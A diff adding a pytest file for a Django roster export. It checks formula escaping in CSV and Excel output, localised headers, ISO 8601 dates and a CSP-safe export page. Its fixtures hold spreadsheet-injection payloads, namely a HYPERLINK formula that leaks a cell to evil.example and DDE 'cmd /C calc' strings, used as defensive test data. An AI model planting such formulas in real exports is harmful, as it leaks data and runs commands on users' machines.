@@ -1,0 +1,157 @@
+"""The roster export: no formula runs in a spreadsheet, labels in the exporter's language,
+aware ISO 8601 dates, and a page that works under the Content Security Policy."""
+
+import csv
+import io
+import re
+from datetime import UTC, datetime
+
+import openpyxl
+import pytest
+from django.urls import reverse
+from django.utils import translation
+
+from experts.models import Expert
+from experts.resources import escape_formula
+from tests.experts_data.support import (
+    experts_env_fixture,  # noqa: F401 - the experts_env fixture
+)
+from tests.test_experts_staff import ROSTER_MANAGERS, make_expert, staff
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("experts_env")]
+
+CSV_FORMAT, XLSX_FORMAT = "0", "1"
+ATTACKS = {
+    "organisation": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "=1+1",
+    "given_name": "+Amina",
+    "family_name": "-2+3",
+}
+
+
+def export_url(language="en", query=""):
+    with translation.override(language):
+        return reverse("admin:experts_expert_export") + query
+
+
+def export(client, language="en", fmt=CSV_FORMAT):
+    url = export_url(language)
+    page = client.get(url)
+    assert page.status_code == 200
+    fields = [name for name in page.context["form"].fields if name.startswith("expertresource_")]
+    response = client.post(url, {"format": fmt, **dict.fromkeys(fields, "on")})
+    assert response.status_code == 200
+    if fmt == CSV_FORMAT:
+        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [list(row) for row in sheet.iter_rows()]
+
+
+@pytest.fixture
+def manager_client(client):
+    client.force_login(staff("manager", ROSTER_MANAGERS))
+    return client
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("==1+1", "'==1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("+903124686172", "+903124686172"),  # a plain number cannot run
+        ("-12.5", "-12.5"),
+        ("Ministry = MFA", "Ministry = MFA"),
+        ("", ""),
+        (12, 12),
+    ],
+)
+def test_escape_formula(value, expected):
+    assert escape_formula(value) == expected
+
+
+def test_no_formula_reaches_the_csv(manager_client):
+    make_expert(**ATTACKS)
+    header, row = export(manager_client)
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Organisation"] == "'" + ATTACKS["organisation"]
+    assert cells["Current position"] == "'" + ATTACKS["position"]
+    assert cells["Summary of expertise"] == "'=1+1"
+    assert cells["Given name"] == "'+Amina"
+    assert cells["Family name"] == "'-2+3"
+    assert cells["Phone"] == "+903124686172"
+    assert not [
+        cell for cell in row if cell[:1] in ("=", "+", "-", "@") and cell != "+903124686172"
+    ]
+
+
+def test_no_formula_reaches_the_excel_file(manager_client):
+    make_expert(**ATTACKS)
+    header, row = export(manager_client, fmt=XLSX_FORMAT)
+    names = [cell.value for cell in header]
+    cells = dict(zip(names, row, strict=True))
+    assert cells["Organisation"].value == "'" + ATTACKS["organisation"]
+    assert cells["Summary of expertise"].value == "'=1+1"
+    assert all(cell.data_type != "f" for cell in row)
+
+
+LABELS = {
+    "en": {"Title": "Dr", "Sector": "Government or public institution", "Status": "Approved"},
+    "ar": {"اللقب": "د.", "القطاع": "حكومة أو مؤسسة عامة", "الحالة": "معتمد"},
+    "fr": {
+        "Civilité": "Dr",
+        "Secteur": "Administration ou institution publique",
+        "Statut": "Approuvé",
+    },
+}
+
+
+@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
+def test_headers_and_choices_in_the_exporters_language(manager_client, language, fmt):
+    make_expert(title="dr", status=Expert.Status.APPROVED)
+    rows = export(manager_client, language, fmt)
+    if fmt == XLSX_FORMAT:
+        rows = [[cell.value for cell in row] for row in rows]
+    cells = dict(zip(*rows, strict=True))
+    with translation.override(language):
+        degree = str(Expert.Degree.DOCTORATE.label)
+        nationality = str(Expert(nationality="JO").nationality.name)
+    assert cells | LABELS[language] == cells, {k: cells.get(k) for k in LABELS[language]}
+    assert degree in cells.values() and degree != "doctorate"
+    assert nationality in cells.values()
+    assert "government" not in cells.values()
+
+
+@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
+def test_dates_are_aware_iso_8601(manager_client, fmt):
+    expert = make_expert(status=Expert.Status.APPROVED)
+    moment = datetime(2025, 6, 1, 10, 5, 30, 123456, tzinfo=UTC)
+    Expert.objects.filter(pk=expert.pk).update(
+        created_at=moment, confirmed_at=moment, reviewed_at=None
+    )
+    rows = export(manager_client, "en", fmt)
+    if fmt == XLSX_FORMAT:
+        rows = [[cell.value for cell in row] for row in rows]
+    cells = dict(zip(*rows, strict=True))
+    assert cells["Registered"] == "2025-06-01T13:05:30+03:00"  # Europe/Istanbul
+    assert datetime.fromisoformat(cells["E-mail confirmed"]) == moment.replace(microsecond=0)
+    assert cells["Reviewed"] in ("", None)
+
+
+def test_the_export_page_has_no_inline_script_or_style(manager_client, language):
+    make_expert()
+    response = manager_client.get(export_url(language))
+    html = response.content.decode()
+    assert not re.search(r"\son[a-z]+=", html), "inline event handler"
+    assert not re.search(r"\sstyle=", html), "style attribute"
+    assert "<script>" not in html
+    assert 'src="/static/js/experts-export.js"' in html
+    assert 'id="select-all-toggle"' in html and 'for="select-all-toggle"' in html
+    with translation.override(language):
+        label = str(Expert._meta.get_field("family_name").verbose_name).capitalize()
+    assert label in html  # column choices are labelled in the page language too
